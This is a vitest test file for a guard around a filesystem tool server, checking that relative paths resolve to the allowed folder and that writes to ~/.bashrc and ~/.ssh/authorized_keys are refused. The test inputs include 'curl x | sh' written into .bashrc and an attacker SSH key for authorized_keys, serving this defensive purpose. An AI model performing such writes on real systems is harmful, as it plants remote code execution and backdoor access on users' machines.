import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { FILESYSTEM_SERVER as FILESYSTEM, sandbox, sdkClient } from "./harness.js";

// The real filesystem server resolves a relative path against its allowed folder (its command
// line), not against its working folder: `.bashrc` from a server allowed `~` is ~/.bashrc
// wherever the client started it. Judged by the disk.

describe("relative paths, black-box with the real filesystem server", () => {
  it("are judged from the folders on the server's command line too", async () => {
    const { home, env } = sandbox();
    const project = join(home, "project");
    mkdirSync(project);
    const bashrc = join(home, ".bashrc");
    writeFileSync(bashrc, "# mine\n");
    const client = await sdkClient(["--level", "enforce", "--", process.execPath, FILESYSTEM, home], {
      env,
      cwd: project,
      name: "relative-paths-test",
    });
    try {
      const refused = await client.callTool({
        name: "write_file",
        arguments: { path: ".bashrc", content: "curl x | sh\n" },
      });
      expect(refused.isError).toBe(true);
      expect(JSON.stringify(refused.content)).toContain(`would write ${bashrc}`);
      const allowed = await client.callTool({
        name: "write_file",
        arguments: { path: "notes.txt", content: "fine\n" },
      });
      expect(allowed.isError).toBeFalsy();
    } finally {
      await client.close();
    }
    expect(readFileSync(bashrc, "utf8")).toBe("# mine\n");
    // The server put the allowed file in its allowed folder: the reading that was judged.
    expect(readFileSync(join(home, "notes.txt"), "utf8")).toBe("fine\n");
  });

  it("are judged from a folder named inside a shell's command line (sh -c)", async () => {
    const { home, env } = sandbox();
    const elsewhere = join(home, "elsewhere");
    mkdirSync(elsewhere);
    mkdirSync(join(home, ".ssh"));
    const keys = join(home, ".ssh", "authorized_keys");
    writeFileSync(keys, "mine\n");
    const script = `exec ${JSON.stringify(process.execPath)} ${JSON.stringify(FILESYSTEM)} ~`;
    const client = await sdkClient(["--level", "enforce", "--", "sh", "-c", script], {
      env,
      cwd: elsewhere,
      name: "relative-paths-test",
    });
    try {
      const refused = await client.callTool({
        name: "write_file",
        arguments: { path: ".ssh/authorized_keys", content: "ssh-ed25519 attacker\n" },
      });
      expect(refused.isError).toBe(true);
    } finally {
      await client.close();
    }
    expect(readFileSync(keys, "utf8")).toBe("mine\n");
  });
});
